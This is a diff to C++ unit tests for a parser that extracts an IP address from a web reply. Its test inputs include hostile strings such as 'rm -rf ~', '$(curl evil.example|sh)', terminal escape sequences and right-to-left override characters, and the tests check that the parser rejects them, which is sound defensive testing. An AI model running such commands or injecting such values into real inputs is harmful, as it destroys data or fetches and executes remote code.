@@ -9,6 +9,7 @@
 
 namespace {
 
+using namespace std::string_literals;
 using shared::parse_int;
 using unit1::parse_first_line;
 using unit1::read_first_line;
@@ -21,39 +22,100 @@ std::string parse_reply(const std::string& reply) {
 
 TEST(FirstLine, RealRepliesGiveTheAddress) {
   EXPECT_EQ(parse_reply("<html><head><title>Current IP Check</title></head><body>Current IP "
-                        "Address: 203.0.113.5</body></html>\r\n"),
-            "203.0.113.5");
+                        "Address: 127.0.0.1</body></html>"),
+            "127.0.0.1");
   EXPECT_EQ(parse_reply("<html><head><title>Current IP Check</title></head><body>Current IP "
-                        "Address: 203.0.113.5</body></html>"),
+                        "Address: 203.0.113.5</body></html>\r\n"),
             "203.0.113.5");
   // Only the first line counts.
   EXPECT_EQ(parse_reply("Address: 198.51.100.7<br>\nOther: 1.1.1.1<\n"), "198.51.100.7");
 }
 
-TEST(FirstLine, WithoutClosingBracketTheLineBreakIsKept) {
-  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5\r\nmore"), "203.0.113.5\r\n");
-  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5\nmore"), "203.0.113.5\n");
+TEST(FirstLine, BlanksAndTheLineBreakAroundTheAddressAreTrimmed) {
+  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5\r\nmore"), "203.0.113.5");
+  EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5\nmore"), "203.0.113.5");
   EXPECT_EQ(parse_reply("Current IP Address: 203.0.113.5"), "203.0.113.5");
+  EXPECT_EQ(parse_reply("Address: \t 203.0.113.5 \t<br>"), "203.0.113.5");
+  EXPECT_EQ(parse_reply("Address:  203.0.113.5 \r\n"), "203.0.113.5");
+  // What follows the line break is never pasted along with the address.
+  EXPECT_EQ(parse_reply("Address: 1.2.3.4\r\nrm -rf ~\r\n"), "1.2.3.4");
 }
 
-TEST(FirstLine, TheLastColonWins) {
-  EXPECT_EQ(parse_reply("Address: 203.0.113.5 at 12: 30<br>"), "30");
-  // The character after the colon is dropped whatever it is.
-  EXPECT_EQ(parse_reply("Address: 203.0.113.5 at 12:30<br>"), "0");
-  EXPECT_EQ(parse_reply("a: b: c<"), "c");
-  // An address with colons is cut at its last one: no special case for IPv6.
-  EXPECT_EQ(parse_reply("Address: 2001:db8::10</body>"), "0");
-  EXPECT_EQ(parse_reply("Address: 2001:db8::1</body>"), "");
+TEST(FirstLine, AnythingButAnAddressIsAnError) {
+  for (const char* reply : {
+           "<title>Hotel WiFi: please log in",
+           "<title>Hotel WiFi: please log in</title>",
+           "Error: 503",
+           "Status: 429 Too Many Requests, retry in 60 s",
+           "Current IP Address: 1.2.3.4; rm -rf ~<",
+           "Current IP Address: $(curl evil.example|sh)<",
+           "Address: \x1b[2J\x1b]0;1.2.3.4\x07<",
+           "Address: \x1b[31m1.2.3.4\x1b[0m<",
+           // A right-to-left override shows another address than the text holds.
+           "Address: \xE2\x80\xAE"
+           "4.3.2.1<",
+           "Address: 1.2.3.4\xE2\x80\xAE<",
+           "Address: 2001:db8::10</body>",
+           "Address: 2001:db8::1</body>",
+           "Address: ::ffff:1.2.3.4<",
+           "Address: 203.0.113.5 at 12: 30<br>",
+       })
+    EXPECT_EQ(parse_reply(reply), kError) << reply;
+  // A NUL ends the text in some readers and not in others.
+  EXPECT_EQ(parse_reply("Address: 1.2.3.4\0<"s), kError);
+  EXPECT_EQ(parse_reply("Address: 1.2.3.4\0 9<"s), kError);
+  EXPECT_EQ(parse_reply("Address: 1.2\0.3.4<"s), kError);
+  // Only blanks and line breaks are trimmed, and only at the ends.
+  EXPECT_EQ(parse_reply("Address: 1.2. 3.4<"), kError);
+  EXPECT_EQ(parse_reply("Address: \v1.2.3.4<"), kError);
+  EXPECT_EQ(parse_reply("Address: \xC2\xA0"
+                        "1.2.3.4<"),
+            kError);
+  EXPECT_EQ(parse_reply("Address: \r\n"), kError);
+  EXPECT_EQ(parse_reply("Address:  <"), kError);
+}
+
+TEST(FirstLine, DottedQuadBoundaries) {
+  using unit1::is_dotted_quad;
+  for (const char* good :
+       {"0.0.0.0", "255.255.255.255", "1.2.3.4", "10.0.0.1", "192.0.2.255", "100.99.9.200"})
+    EXPECT_TRUE(is_dotted_quad(good)) << good;
+  for (const char* bad :
+       {"",          "256.1.1.1", "1.1.1.256",  "999.1.1.1", "1000.1.1.1", "1.2.3",
+        "1.2.3.4.5", "1.2.3.",    ".1.2.3",     "1..2.3",    "1.2.3.4.",   "01.2.3.4",
+        "1.2.3.00",  "1.2.3.010", "0001.2.3.4", "+1.2.3.4",  "-1.2.3.4",   "1.2.3.-4",
+        "1. 2.3.4",  " 1.2.3.4",  "1.2.3.4 ",   "1,2,3,4",   "1.2.3.4/24", "1.2.3.4:80",
+        "0x1.2.3.4", "１.2.3.4",  "1.2.3.4\n",  "16909060",  "a.b.c.d"})
+    EXPECT_FALSE(is_dotted_quad(bad)) << '"' << bad << '"';
+  // Through the whole parse.
+  EXPECT_EQ(parse_reply("IP: 255.255.255.255<"), "255.255.255.255");
+  EXPECT_EQ(parse_reply("IP: 0.0.0.0<"), "0.0.0.0");
+  EXPECT_EQ(parse_reply("IP: 256.0.0.1<"), kError);
+  EXPECT_EQ(parse_reply("IP: 1.2.3<"), kError);
+  EXPECT_EQ(parse_reply("IP: 1.2.3.4.5<"), kError);
+}
+
+TEST(FirstLine, TheLastColonWinsAndTheCharacterAfterItIsDropped) {
+  EXPECT_EQ(parse_reply("a: b: 1.2.3.4<"), "1.2.3.4");
+  EXPECT_EQ(parse_reply("Time 12:30 Address: 1.2.3.4<"), "1.2.3.4");
+  // Whatever the character after the colon is, it is not part of the address.
+  EXPECT_EQ(parse_reply("Address:x1.2.3.4<"), "1.2.3.4");
+  EXPECT_EQ(parse_reply("Address:1.2.3.4<"), kError);
+  EXPECT_EQ(parse_reply("Address:\xE3\x80\x80"
+                        "1.2.3.4<"),
+            "1.2.3.4");
 }
 
 TEST(FirstLine, OnlyTheFirst127CharactersAreSearched) {
   // The address starts after character 127 and is never seen.
   const std::string late = "Address" + std::string(130, ' ') + ": 203.0.113.5<";
   EXPECT_EQ(parse_reply(late), kError);
-  // The colon is inside the window, the address is cut at its end.
+  // The colon is inside the window but the address is cut at its end: no address.
   const std::string cut = std::string(120, 'x') + ": 203.0.113.5<";
   EXPECT_EQ(read_first_line(cut).size(), 127u);
-  EXPECT_EQ(parse_reply(cut), "203.0");
+  EXPECT_EQ(parse_reply(cut), kError);
+  const std::string fits = std::string(112, 'x') + ": 203.0.113.5<";
+  EXPECT_EQ(parse_reply(fits), "203.0.113.5");
   EXPECT_EQ(parse_reply(std::string(10000, 'a')), kError);
 }
 
@@ -80,12 +142,14 @@ TEST(FirstLine, BinaryAndMalformedBytesAreSafe) {
   for (int i = 0; i < 600; ++i) junk += static_cast<char>((i * 37) & 0xFF);
   const std::string line = read_first_line(junk);
   EXPECT_LE(line.size(), unit1::kLineBytes);
-  parse_first_line(line);
+  EXPECT_EQ(parse_first_line(line), kError);
   // Invalid bytes become U+FFFD; the address after them is still found.
   EXPECT_EQ(parse_reply("\xFF\xFE: 203.0.113.5<"), "203.0.113.5");
-  // The character after the colon is dropped whole, even when it stands for a bad byte.
-  EXPECT_EQ(parse_reply(":\xE3\x81<"), "\xEF\xBF\xBD");
-  EXPECT_EQ(parse_reply(std::string("A\0B: 1.2.3.4<", 13)), "1.2.3.4");
+  EXPECT_EQ(parse_reply(":\xE3\x81<"), kError);
+  EXPECT_EQ(parse_reply(": \xFF"
+                        "1.2.3.4<"),
+            kError);
+  EXPECT_EQ(parse_reply("A\0B: 1.2.3.4<"s), "1.2.3.4");
 }
 
 TEST(Utf8, MalformedSequencesAreReplacedOneByteAtATime) {
